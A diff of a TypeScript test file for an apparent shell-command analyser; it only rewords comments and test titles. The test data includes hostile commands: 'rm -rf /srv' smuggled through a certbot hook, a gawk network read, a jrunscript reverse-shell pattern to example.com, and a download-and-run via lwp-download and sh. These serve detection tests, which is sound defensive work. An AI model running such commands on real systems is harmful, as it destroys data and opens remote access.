@@ -3,7 +3,7 @@ import { effects, look, paths } from '../../test/support/shell/shell.ts';
 
 const LINE = 'rm -rf /srv';
 
-/** Lines that all delete `/srv` recursively, by way of a program that is there for something else. */
+/** Lines that all delete `/srv` recursively, through a program with another purpose. */
 const DELETES_SRV: Readonly<Record<string, readonly string[]>> = {
   'an option whose name says that its value is run': [
     `certbot certonly -d x --pre-hook '${LINE}'`,
@@ -94,7 +94,7 @@ describe.each(Object.entries(DELETES_SRV))('%s', (_, commands) => {
   });
 });
 
-describe('a text is a text', () => {
+describe('treats text as text', () => {
   test.each([
     `unheard-of create --title '${LINE} in the clean script'`,
     `unheard-of --message='${LINE}'`,
@@ -139,6 +139,6 @@ test.each([
   'gawk -v h=example.com \'BEGIN { s = "/inet/tcp/0/" h "/1"; s |& getline c; c |& getline }\'',
   'jrunscript -e \'var p=new java.lang.ProcessBuilder("/bin/bash","-i").start(); new java.net.Socket("example.com",1)\'',
   'lwp-download http://example.com/p.sh /tmp/p.sh && sh /tmp/p.sh',
-])('%j runs what comes from the network', (command) => {
+])('%j runs code from the network', (command) => {
   expect(effects(command, 'execute')).toContainEqual(expect.objectContaining({ from: 'network' }));
 });
